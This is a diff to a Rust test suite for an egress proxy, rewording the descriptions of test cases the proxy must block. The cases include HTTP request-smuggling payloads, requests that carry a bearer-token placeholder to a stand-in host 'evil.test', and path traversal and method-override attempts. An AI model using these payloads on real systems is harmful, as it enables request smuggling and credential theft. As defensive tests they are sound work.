@@ -1,4 +1,4 @@
-//! Requests that name two hosts, or that two programs would read as two different requests.
+//! Attacks with requests that name two hosts, or that two parsers would read as different requests.
 
 use super::super::case::EgressCase;
 use super::super::case::EgressControl::{Other, Same};
@@ -12,7 +12,7 @@ const INSIDE: &[&str] = &[
 ];
 const PLAIN: &[&str] = &["door", r"say:GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\n", "hear"];
 
-/// A head that must be refused, in plain text and behind TLS that is looked into.
+/// A request head that must be refused, in plain text and inside inspected TLS.
 macro_rules! smuggled {
     ($($id:literal $name:literal $line:literal $rest:literal,)*) => {
         &[$(
@@ -34,20 +34,20 @@ const ROUTE: &[&str] =
     &["door", r"say:GET /r/anthropic/v1/models HTTP/1.1\r\nHost: x\r\nX-Api-Key: {model}\r\n\r\n", "hear"];
 
 pub(super) const SMUGGLED: &[EgressCase] = smuggled![
-    "both" "a length beside chunks" "POST"
+    "both" "a length with chunked encoding" "POST"
         r"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
-    "both-turned" "chunks beside a length" "POST"
+    "both-turned" "chunked encoding with a length" "POST"
         r"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\n\r\n",
     "lengths" "two lengths" "POST" r"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
     "equal-lengths" "the same length twice" "POST" r"Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello",
-    "list" "two lengths in one" "POST" r"Content-Length: 5, 6\r\n\r\nhello!",
+    "list" "two lengths in one header" "POST" r"Content-Length: 5, 6\r\n\r\nhello!",
     "plus" "a length with a sign" "POST" r"Content-Length: +5\r\n\r\nhello",
     "hex" "a length in hexadecimal" "POST" r"Content-Length: 0x5\r\n\r\nhello",
-    "huge" "a length that is no number any more" "POST" r"Content-Length: 99999999999999999999\r\n\r\nhello",
+    "huge" "a length that overflows" "POST" r"Content-Length: 99999999999999999999\r\n\r\nhello",
     "codings" "two codings" "POST" r"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
-    "coding-twice" "a coding twice" "POST" r"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
-    "coding-odd" "a coding nobody knows" "POST" r"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
-    "coding-tab" "a coding behind a control character" "POST" r"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
+    "coding-twice" "a transfer encoding twice" "POST" r"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
+    "coding-odd" "an unknown transfer encoding" "POST" r"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
+    "coding-tab" "a transfer encoding after a control character" "POST" r"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
     "space" "a space before a colon" "POST" r"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
     "fold" "a header over two lines" "GET" r"X-A: b\r\n c\r\n\r\n",
     "fold-first" "a first header over two lines" "GET" r" X-A: b\r\n\r\n",
@@ -58,7 +58,7 @@ pub(super) const SMUGGLED: &[EgressCase] = smuggled![
     "nameless" "a header without a name" "GET" r": b\r\n\r\n",
     "colonless" "a header without a colon" "GET" r"X-A\r\n\r\n",
     "hosts" "a second host" "GET" r"Host: evil.test\r\n\r\n",
-    "lower" "a method in small letters" "gET" r"\r\n",
+    "lower" "a method in lower case" "gET" r"\r\n",
 ];
 
 pub(super) const CASES: &[EgressCase] = &[
@@ -71,35 +71,35 @@ pub(super) const CASES: &[EgressCase] = &[
     ),
     EgressCase::blocked(
         "PC-04.lent",
-        "the same with another host that is lent something",
+        "a tunnel to one host with a request for another that has a credential",
         &["connect:api.test:443", "tls:api.test", r"say:GET / HTTP/1.1\r\nHost: git.test\r\nAuthorization: Bearer {api}\r\n\r\n", "hear"],
         "HTTP/1.1 400",
         Other(Strict, INSIDE),
     ),
     EgressCase::blocked(
         "PC-04.port",
-        "the same with another port",
+        "a tunnel to one host with a request for another port",
         &["connect:api.test:443", "tls:api.test", r"say:GET / HTTP/1.1\r\nHost: api.test:8443\r\nAuthorization: Bearer {api}\r\n\r\n", "hear"],
         "HTTP/1.1 400",
         Other(Strict, INSIDE),
     ),
     EgressCase::blocked(
         "PC-04.absolute",
-        "the same with an absolute address inside",
+        "a tunnel to one host with an absolute URL of another",
         &["connect:api.test:443", "tls:api.test", r"say:GET https://evil.test/ HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer {api}\r\n\r\n", "hear"],
         "HTTP/1.1 400",
         Other(Strict, INSIDE),
     ),
     EgressCase::blocked(
         "PC-04.socks",
-        "the same by SOCKS",
+        "a request for another host, by SOCKS",
         &["socks:api.test:443", "tls:api.test", r"say:GET / HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer {api}\r\n\r\n", "hear"],
         "HTTP/1.1 400",
         Other(Strict, INSIDE),
     ),
     EgressCase::blocked(
         "PC-04.named",
-        "the same, as if there were no proxy",
+        "a request for another host, by a direct connection",
         &["name:api.test:443", "tls:api.test", r"say:GET / HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer {api}\r\n\r\n", "hear"],
         "HTTP/1.1 400",
         Other(Strict, INSIDE),
@@ -120,14 +120,14 @@ pub(super) const CASES: &[EgressCase] = &[
     ),
     EgressCase::blocked(
         "PC-05.sni",
-        "a tunnel to a host that is lent something, with TLS to another",
+        "a tunnel to a host that has a credential, with TLS to another",
         &["connect:api.test:443", "tls:evil.test", "hear"],
         "failed at tls",
         Other(Strict, INSIDE),
     ),
     EgressCase::blocked(
         "PC-05.lent",
-        "a tunnel to an allowed host, with TLS to one that is lent something",
+        "a tunnel to an allowed host, with TLS to one that has a credential",
         &["connect:allowed.test:443", "tls:api.test", "hear"],
         "failed at tls",
         Other(Strict, INSIDE),
@@ -135,56 +135,56 @@ pub(super) const CASES: &[EgressCase] = &[
     .silent(),
     EgressCase::blocked(
         "PC-05.nameless",
-        "a tunnel to a host that is lent something, with TLS to nobody",
+        "a tunnel to a host that has a credential, with TLS without SNI",
         &["connect:api.test:443", "tls:-", "hear"],
         "failed at tls",
         Other(Strict, INSIDE),
     ),
     EgressCase::blocked(
         "PC-06.host",
-        "an absolute address with another host",
+        "an absolute URL with another `Host`",
         &["door", r"say:GET http://plain.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", "hear"],
         "HTTP/1.1 400",
         Other(Strict, PLAIN),
     ),
     EgressCase::blocked(
         "PC-06.turned",
-        "an absolute address of another host",
+        "an absolute URL of another host",
         &["door", r"say:GET http://evil.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\n", "hear"],
         "HTTP/1.1 40",
         Other(Strict, PLAIN),
     ),
     EgressCase::blocked(
         "PC-06.port",
-        "an absolute address with another port",
+        "an absolute URL with another port",
         &["door", r"say:GET http://plain.test/ HTTP/1.1\r\nHost: plain.test:8080\r\n\r\n", "hear"],
         "HTTP/1.1 400",
         Other(Strict, PLAIN),
     ),
     EgressCase::blocked(
         "PC-06.forwarded",
-        "no host at all, but a forwarded one",
+        "no host, but a forwarded one",
         &["door", r"say:GET http://plain.test/ HTTP/1.1\r\nX-Forwarded-Host: plain.test\r\n\r\n", "hear"],
         "HTTP/1.1 400",
         Other(Strict, PLAIN),
     ),
     EgressCase::blocked(
         "PC-07.twice",
-        "two hosts behind TLS",
+        "two hosts inside TLS",
         &["connect:api.test:443", "tls:api.test", r"say:GET / HTTP/1.1\r\nHost: api.test\r\nhost: api.test\r\n\r\n", "hear"],
         "HTTP/1.1 400",
         Other(Strict, INSIDE),
     ),
     EgressCase::blocked(
         "PC-07.none",
-        "no host behind TLS",
+        "no host inside TLS",
         &["connect:api.test:443", "tls:api.test", r"say:GET / HTTP/1.1\r\n\r\n", "hear"],
         "HTTP/1.1 400",
         Other(Strict, INSIDE),
     ),
     EgressCase::blocked(
         "PC-07.old",
-        "a request of the oldest kind",
+        "an HTTP/0.9 request",
         &["connect:api.test:443", "tls:api.test", r"say:GET /\r\n\r\n", "hear"],
         "HTTP/1.1 400",
         Other(Strict, INSIDE),
@@ -198,7 +198,7 @@ pub(super) const CASES: &[EgressCase] = &[
     ),
     EgressCase::blocked(
         "PC-07.h2-door",
-        "HTTP/2 at the door",
+        "HTTP/2 to the listener",
         &["door", r"say:PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00", "hear"],
         "HTTP/1.1 400|HTTP/1.1 505",
         Other(Strict, PLAIN),
@@ -212,7 +212,7 @@ pub(super) const CASES: &[EgressCase] = &[
     ),
     EgressCase::blocked(
         "PC-08.trailer",
-        "a header behind the last chunk",
+        "a trailer after the last chunk",
         &["connect:api.test:443", "tls:api.test", r"say:POST /smuggled HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nAuthorization: Bearer {api}\r\n\r\n", "hear"],
         "HTTP/1.1 400|HTTP/1.1 502|failed at hear|heard \n",
         Other(Strict, INSIDE),
@@ -220,21 +220,21 @@ pub(super) const CASES: &[EgressCase] = &[
     .silent(),
     EgressCase::blocked(
         "PC-17.websocket",
-        "a request for another protocol",
+        "a protocol upgrade",
         &["connect:api.test:443", "tls:api.test", r"say:GET /ws HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nAuthorization: Bearer {api}\r\n\r\n", "hear"],
         "HTTP/1.1 501",
         Other(Strict, INSIDE),
     ),
     EgressCase::blocked(
         "PC-17.h2c",
-        "a request for HTTP/2 in plain text",
+        "an upgrade to HTTP/2 in plain text",
         &["door", r"say:GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n", "hear"],
         "HTTP/1.1 501",
         Other(Strict, PLAIN),
     ),
     EgressCase::blocked(
         "PC-17.open",
-        "a request for another protocol where all is open",
+        "a protocol upgrade where every host is allowed",
         &["door", r"say:GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n", "hear"],
         "HTTP/1.1 501",
         Other(Open, &["door", r"say:GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", "hear"]),
@@ -242,49 +242,49 @@ pub(super) const CASES: &[EgressCase] = &[
     .under(Open),
     EgressCase::blocked(
         "PC-13.trace",
-        "a request that comes back whole",
+        "a `TRACE` request",
         &["connect:api.test:443", "tls:api.test", r"say:TRACE / HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer {api}\r\n\r\n", "hear"],
         "HTTP/1.1 405",
         Other(Strict, INSIDE),
     ),
     EgressCase::blocked(
         "PC-13.track",
-        "the same by its other name",
+        "a `TRACK` request",
         &["connect:api.test:443", "tls:api.test", r"say:TRACK / HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer {api}\r\n\r\n", "hear"],
         "HTTP/1.1 405",
         Other(Strict, INSIDE),
     ),
     EgressCase::blocked(
         "PC-34.method",
-        "a method that its rule does not name",
+        "a method that the rule does not allow",
         &["connect:look.test:443", "tls:look.test", r"say:POST /public/x HTTP/1.1\r\nHost: look.test\r\nContent-Length: 0\r\n\r\n", "hear"],
         "HTTP/1.1 403",
         Same(Open),
     ),
     EgressCase::blocked(
         "PC-34.path",
-        "a path that its rule does not name",
+        "a path that the rule does not allow",
         &["connect:look.test:443", "tls:look.test", r"say:GET /private HTTP/1.1\r\nHost: look.test\r\n\r\n", "hear"],
         "HTTP/1.1 403",
         Same(Open),
     ),
     EgressCase::blocked(
         "PC-34.dots",
-        "a path that leaves the one its rule names",
+        "path traversal out of the allowed path",
         &["connect:look.test:443", "tls:look.test", r"say:GET /public/../private HTTP/1.1\r\nHost: look.test\r\n\r\n", "hear"],
         "HTTP/1.1 403",
         Same(Open),
     ),
     EgressCase::blocked(
         "PC-34.escaped",
-        "the same, escaped",
+        "path traversal out of the allowed path, escaped",
         &["connect:look.test:443", "tls:look.test", r"say:GET /public/%2e%2e/private HTTP/1.1\r\nHost: look.test\r\n\r\n", "hear"],
         "HTTP/1.1 403",
         Same(Open),
     ),
     EgressCase::blocked(
         "PC-34.override",
-        "a method in a header instead",
+        "a method override header",
         &["connect:look.test:443", "tls:look.test", r"say:POST /public/x HTTP/1.1\r\nHost: look.test\r\nX-HTTP-Method-Override: GET\r\nContent-Length: 0\r\n\r\n", "hear"],
         "HTTP/1.1 403",
         Same(Open),
